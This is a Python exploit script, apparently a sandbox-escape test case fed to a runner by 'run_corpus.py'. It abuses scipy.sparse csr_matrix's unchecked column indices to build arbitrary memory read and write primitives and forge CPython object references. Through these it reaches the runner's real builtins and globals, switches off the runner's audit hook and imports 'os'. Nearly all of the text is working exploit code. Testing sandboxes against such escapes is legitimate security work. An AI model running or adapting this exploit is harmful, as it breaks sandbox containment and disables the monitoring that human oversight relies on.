# technique: scipy.sparse's csr_matrix((data, indices, indptr)) checks only the index arrays' shapes (check_format(full_check=False)), not that each column index is below the column count; sparsetools' C++ then trusts them: csr_matvec reads x[indices[k]] and csr_todense adds data[k] into out[indices[k]], anywhere in memory relative to the snippet's own array: a read and a write primitive, then a forged reference
# source: scipy.sparse._compressed._cs_matrix.check_format (index range checked only with full_check), scipy/sparse/sparsetools/csr.h csr_matvec, csr_todense
import numpy as np
import scipy.sparse as sps

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

x = np.zeros(4, dtype=np.int64)
X0 = np.byte_bounds(x)[0]
def csr(word, value):
    return sps.csr_matrix((np.array([value], dtype=np.int64), np.array([word], dtype=np.int64),
                           np.array([0, 1], dtype=np.int64)), shape=(1, 4))
def r64(addr):
    d = addr - X0
    lo = int((csr(d // 8, 1) @ x)[0]) & (2**64 - 1)
    if d % 8 == 0:
        return lo
    hi = int((csr(d // 8 + 1, 1) @ x)[0]) & (2**64 - 1)
    sh = (d % 8) * 8
    return ((lo >> sh) | (hi << (64 - sh))) & (2**64 - 1)
def w64(addr, v):
    # csr_todense: out[indices[k]] += data[k]; addresses of objects are 8-aligned
    out = np.zeros((1, 4), dtype=np.int64)
    base = np.byte_bounds(out)[0]
    delta = (v - r64(addr)) % 2**64
    if delta >= 2**63:
        delta -= 2**64
    csr((addr - base) // 8, delta).toarray(out=out)
holder = [None]
def fakeobj(addr):
    w64(addr, r64(addr) + 1)          # a reference of the holder's own
    w64(r64(id(holder) + 24), addr)   # holder's ob_item[0]
    return holder[0]
def builtins_dict():
    # a Python function's func_builtins (CPython 3.11: offset 24)
    return fakeobj(r64(id(np.linalg.norm) + 24))
def runner_globals():
    # display() is the runner's own function: its func_globals (offset 16)
    return fakeobj(r64(id(display) + 16))
def os_after_disarm():
    g = runner_globals()
    aud = fakeobj(r64(id(g['_PKG_TRUST'][0]) + 24))  # the bound method's self: _Audit
    aud.armed = False
    return g[dn('builtins')][dn('import')]('os')
attempt('csr_matrix(indices out of range) @ x -> real builtins', builtins_dict)
attempt('csr_matrix(indices out of range).toarray(out) -> runner globals', runner_globals)
attempt('csr_matrix(indices out of range) -> audit hook off, os', os_after_disarm)
